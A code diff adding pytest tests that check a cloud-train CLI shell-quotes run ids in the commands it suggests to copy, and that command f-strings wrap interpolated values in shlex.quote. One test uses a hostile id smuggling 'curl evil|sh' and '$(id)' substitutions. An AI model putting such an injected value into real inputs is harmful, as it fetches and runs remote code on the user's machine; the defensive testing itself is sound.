@@ -3,16 +3,20 @@
 import ast
 import json
 import re
+import shlex
 import shutil
 import sqlite3
 from collections.abc import Callable
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
 
+from cloud_train.cli.render.runs import next_steps
 from cloud_train.cli.terminal import Painter, finished
+from cloud_train.run.states import State
 from tests.cli.command import CommandLine, command_line_of
+from tests.cli.test_cli_render import RUN
 
 CLI = Path(__file__).parents[2] / "cloud_train" / "cli"
 
@@ -226,3 +230,32 @@ def test_nothing_of_the_command_line_writes_past_the_one_place_that_cleans() -> 
             on_a_stream = isinstance(node.func, ast.Attribute) and ast.unparse(node.func.value).startswith(("sys.std", "typer", "stream"))
             suspicious = name in ("print", "write_bytes") or (name in ("write", "echo", "secho") and on_a_stream)
             assert not suspicious or name in allowed.get(path.name, set()), f"{path.name}:{node.lineno} writes with {name}()"
+
+
+def test_an_id_in_a_command_to_copy_is_one_word_for_a_shell() -> None:
+    hostile = "x;curl evil|sh; $(id) `id` 'a' \"b\""
+    run = replace(RUN, run_id=hostile)
+    for state in State:
+        for command, _ in next_steps(replace(run, state=state), has_metrics=True):
+            assert hostile in shlex.split(command)
+
+
+def test_every_command_to_copy_quotes_what_it_names() -> None:
+    # An id has passed the strict rule of run.ids before anything is shown of its run.
+    ours = re.compile(r"(\w+\.)?run_id|PROGRAM|_LIST|run\.run_id")
+    unquoted = []
+    for path in (CLI.parent).rglob("*.py"):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if not isinstance(node, ast.JoinedStr):
+                continue
+            is_command = False
+            for part in node.values:
+                if isinstance(part, ast.Constant):
+                    is_command = "cloud-train " in str(part.value) if "cloud-train" in str(part.value) else is_command
+                    is_command = is_command and not re.search(r"cloud-train [a-z-]+ [^;:`{]*[;:`]", str(part.value))
+                elif is_command and isinstance(part, ast.FormattedValue):
+                    named = ast.unparse(part.value)
+                    if not named.startswith("shlex.quote(") and not ours.fullmatch(named):
+                        unquoted.append(f"{path.name}:{node.lineno}: {named}")
+    known = {"__version__", "platform.system()", "platform.machine()", "version", "_VERSION", "name", "command"}  # "name" was quoted before
+    assert not [each for each in unquoted if each.rpartition(": ")[2] not in known], unquoted
